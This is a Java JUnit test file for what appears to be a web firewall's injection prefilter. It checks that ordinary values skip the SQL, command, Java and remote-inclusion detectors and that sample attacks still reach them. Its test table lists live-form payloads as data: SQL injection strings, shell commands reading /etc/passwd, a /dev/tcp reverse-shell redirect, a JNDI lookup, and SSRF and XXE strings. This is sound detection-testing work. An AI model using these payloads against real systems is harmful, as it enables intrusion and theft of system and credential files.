package dev.bulwark.dataplane.threat.injection.detect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bulwark.contracts.policy.ThreatFamily;
import dev.bulwark.contracts.policy.ThreatSensitivity;
import dev.bulwark.dataplane.threat.injection.Detectors;
import dev.bulwark.dataplane.threat.injection.input.InputKind;
import dev.bulwark.dataplane.threat.injection.sql.SqlInjectionDetector;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The declarations of the four families that used to admit any syntax character (SQL, command, Java,
 * remote inclusion): ordinary values skip them, an attack of each class the declaration admits
 * still reaches its family (and the family finds it), and random values built with the punctuation
 * of ordinary text expose no hole.
 */
class BroadFamilyGatesTest {
    private static final List<ThreatFamily> BROAD = List.of(ThreatFamily.SQL, ThreatFamily.COMMAND, ThreatFamily.JAVA,
            ThreatFamily.REMOTE_INCLUSION);
    private static final Detector[] DETECTORS = Detectors.all().toArray(Detector[]::new);
    private static final Prefilter PREFILTER = new Prefilter(DETECTORS);

    @ParameterizedTest
    @ValueSource(strings = {"2026-12-06", "2026-12-06T09:30:00Z", "2026-12-06T09:30:00.125+01:00", "zoe.oneil@example.com",
        "49.90", "-12.5", "1,250.00", "7f3c2a90-1b6e-4c3d-9a51-0e2f6b8d4c11", "+49 30 1234567", "10% off, today only.",
        "Large, grey scratching post (80 cm).", "Please ring twice; thanks a lot!", "Berlin-Mitte", "ord_01hx3k9v7n",
        "3. OG, links", "Scratching post - sisal, 80 cm", "v2.4.1", "Friedrichstraße 123", "Crème brûlée, café"})
    void ordinaryValuesSkipTheFourFamilies(String value) {
        for (InputKind kind : new InputKind[] {InputKind.JSON_VALUE, InputKind.QUERY_VALUE, InputKind.HEADER}) {
            assertThat(admitted(value, kind)).as(value + " as " + kind).doesNotContainAnyElementsOf(BROAD);
        }
    }

    @Test
    void aTypographicQuoteAloneAdmitsSql() {
        assertThat(admitted("Zoë’s café", InputKind.JSON_VALUE)).contains(ThreatFamily.SQL);
        assertThat(admitted("Zoës café", InputKind.JSON_VALUE)).doesNotContain(ThreatFamily.SQL);
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://www.example.com/blog/scratching-posts", "http://shop.example.org/catalog/42"})
    void anOrdinaryUrlReachesRemoteInclusionAlone(String url) {
        assertThat(admitted(url, InputKind.JSON_VALUE)).contains(ThreatFamily.REMOTE_INCLUSION)
                .doesNotContain(ThreatFamily.SQL, ThreatFamily.COMMAND, ThreatFamily.JAVA);
    }

    /** One attack per way each declaration admits a value; most are admitted by that way alone. */
    @ParameterizedTest
    @CsvSource(delimiterString = "⇒", quoteCharacter = '~', textBlock = """
            SQL              ⇒ admin';                              ⇒ ~quote alone~
            SQL              ⇒ x’ or ‘1’=’1                         ⇒ ~typographic quotes~
            SQL              ⇒ admin’;                              ⇒ ~typographic quote alone~
            SQL              ⇒ $$a$$=$$a$$                          ⇒ ~dollar quoting~
            SQL              ⇒ 2=2                                  ⇒ ~comparison~
            SQL              ⇒ 1 || 1=1                             ⇒ ~logic operator~
            SQL              ⇒ 1) #                                 ⇒ ~hash comment~
            SQL              ⇒ /*!50000 1*/                         ⇒ ~executable comment~
            SQL              ⇒ 1) --                                ⇒ ~dash comment: paired~
            SQL              ⇒ a @@ b                               ⇒ ~JSON operator: paired~
            SQL              ⇒ 1.e(                                 ⇒ ~bare exponent: flag~
            SQL              ⇒ 1union select 1                      ⇒ ~vocabulary after a number~
            SQL              ⇒ 5 order by 3                         ⇒ ~vocabulary~
            COMMAND          ⇒ w'h'o'am'i                           ⇒ ~quotes in a name~
            COMMAND          ⇒ c\\at /etc/passwd                    ⇒ ~backslash~
            COMMAND          ⇒ who^ami                              ⇒ ~caret~
            COMMAND          ⇒ c1=c;c2=at;$c1$c2 /etc/passwd        ⇒ ~dollar~
            COMMAND          ⇒ /bin/c?t /etc/passwd                 ⇒ ~glob path: pair~
            COMMAND          ⇒ () { :; }                            ⇒ ~function definition: pair~
            COMMAND          ⇒ for %i in (1) do x                   ⇒ ~FOR loop: pair~
            COMMAND          ⇒ .system id                           ⇒ ~dot-command: dot-led~
            COMMAND          ⇒ x; .shell id                         ⇒ ~dot-command after a separator: pair~
            COMMAND          ⇒ !-1                                  ⇒ ~history expansion~
            COMMAND          ⇒ x > /dev/tcp/10.0.0.1/80             ⇒ ~reverse shell: word~
            COMMAND          ⇒ Invoke-Expression x                  ⇒ ~cmdlet: word~
            COMMAND          ⇒ cat /etc/passwd                      ⇒ ~program: word~
            JAVA             ⇒ ${jndi:ldap://x/a}                   ⇒ ~lookup: pair~
            JAVA             ⇒ #_memberAccess                       ⇒ ~OGNL: hash~
            JAVA             ⇒ @a.b@c                               ⇒ ~OGNL static access: two ats~
            JAVA             ⇒ T(org.x)                             ⇒ ~SpEL: the word T before a parenthesis~
            JAVA             ⇒ java.lang.Runtime                    ⇒ ~root package: word~
            JAVA             ⇒ x.class.classLoaderX                 ⇒ ~class loader: prefix~
            JAVA             ⇒ forName(x)                           ⇒ ~reflection call: word~
            JAVA             ⇒ InvokerTransformer                   ⇒ ~gadget: word~
            JAVA             ⇒ rO0ABXNyABFqYXZh                     ⇒ ~serialised: encoded~
            REMOTE_INCLUSION ⇒ http://169.254.169.254/latest        ⇒ ~fetch scheme followed by a colon~
            REMOTE_INCLUSION ⇒ file:///etc/passwd                   ⇒ ~dangerous scheme~
            REMOTE_INCLUSION ⇒ data:text/html,x                     ⇒ ~data URI~
            REMOTE_INCLUSION ⇒ ftp?                                 ⇒ ~truncated scheme~
            REMOTE_INCLUSION ⇒ http/?                               ⇒ ~truncated scheme with a slash~
            REMOTE_INCLUSION ⇒ localhost                            ⇒ ~internal name: word~
            REMOTE_INCLUSION ⇒ db.cluster.local                     ⇒ ~internal suffix: word~
            REMOTE_INCLUSION ⇒ <!ENTITY x SYSTEM 'y'>               ⇒ ~entity: prefix~
            REMOTE_INCLUSION ⇒ <xi:includes href='x'/>              ⇒ ~XInclude: prefix~
            """)
    void anAttackOfEachAdmittedClassStillReachesItsFamily(ThreatFamily family, String value, String why) {
        Detector detector = GateAudit.detector(family);
        Subject subject = new Subject().set(value, InputKind.QUERY_VALUE, "q", ThreatSensitivity.DEFAULT);
        assertThat(detector.match(subject)).as(why + ": the family finds " + value).isNotNull();
        assertThat(new Prefilter(new Detector[] {detector}).admitted(subject)).as(why + ": admitted " + value).isNotZero();
    }

    /** The tail of a number-led word is a word where SQL's tokenizer ends the number: after its digits, hex or exponent. */
    @ParameterizedTest
    @CsvSource({"1UNION, true", "0x1fSELECT, true", "0X1FSELECT, true", "1e5from, true", "0b01union, true", "0b012union, true",
        "0xgunion, false", "0xunion, false", "06T09, false", "7f3c2a90, false", "1b6e, false", "0e2f6b8d4c11, false", "12abc, false"})
    void aNumberLedWordIsReadFromWhereTheTokenizerEndsTheNumber(String value, boolean sql) {
        assertThat(admitted(value, InputKind.QUERY_VALUE).contains(ThreatFamily.SQL)).as(value).isEqualTo(sql);
    }

    @Test
    void noDeclarationHidesAFindingOnRandomValuesWithThePunctuationOfOrdinaryText() {
        List<String> vocabulary = new ArrayList<>(SqlInjectionDetector.vocabulary());
        for (Detector detector : DETECTORS) {
            vocabulary.addAll(detector.gate().words());
            vocabulary.addAll(detector.gate().prefixes());
        }
        String[] joiners = {" ", "-", ":", ".", "@", ",", ";", "(", ")", "%", "+", "/", "?", "[", "]", ". ", ", ", "--", "@@",
            "://", "\n", " (", ") "};
        String alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_e";
        Random random = new Random(20);
        List<String> holes = new ArrayList<>();
        for (int n = 0; n < 20_000; n++) {
            StringBuilder value = new StringBuilder();
            for (int t = 1 + random.nextInt(6); t > 0; t--) {
                if (value.length() > 0 || random.nextInt(4) == 0) {
                    value.append(joiners[random.nextInt(joiners.length)]);
                }
                switch (random.nextInt(4)) {
                    case 0 -> value.append(vocabulary.get(random.nextInt(vocabulary.size())));
                    case 1 -> value.append(random.nextInt(100_000));
                    default -> {
                        for (int k = 1 + random.nextInt(12); k > 0; k--) {
                            value.append(alphabet.charAt(random.nextInt(alphabet.length())));
                        }
                    }
                }
            }
            GateAudit.collectHoles(DETECTORS, value, holes);
        }
        assertThat(holes).isEmpty();
    }

    private static List<ThreatFamily> admitted(String value, InputKind kind) {
        Subject subject = new Subject().set(value, kind, "q", ThreatSensitivity.DEFAULT);
        long bits = PREFILTER.admitted(subject);
        List<ThreatFamily> families = new ArrayList<>();
        for (int i = 0; i < DETECTORS.length; i++) {
            if ((bits & 1L << i) != 0) {
                families.add(DETECTORS[i].family());
            }
        }
        return families;
    }
}
